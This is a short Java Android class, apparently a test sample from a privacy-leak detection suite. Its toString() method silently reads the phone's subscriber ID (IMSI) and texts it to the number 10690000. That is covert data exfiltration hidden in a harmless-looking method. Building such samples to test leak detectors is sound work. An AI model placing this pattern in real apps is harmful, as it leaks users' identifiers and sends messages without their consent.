package cn.privlens.suite.unused_class;

import android.content.Context;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

class Helper {
    private final Context context;
    Helper(Context context) { this.context = context; }
    @Override
    public String toString() {
        SmsManager.getDefault().sendTextMessage("10690000", null, ((TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE)).getSubscriberId(), null, null);
        return "helper";
    }
}
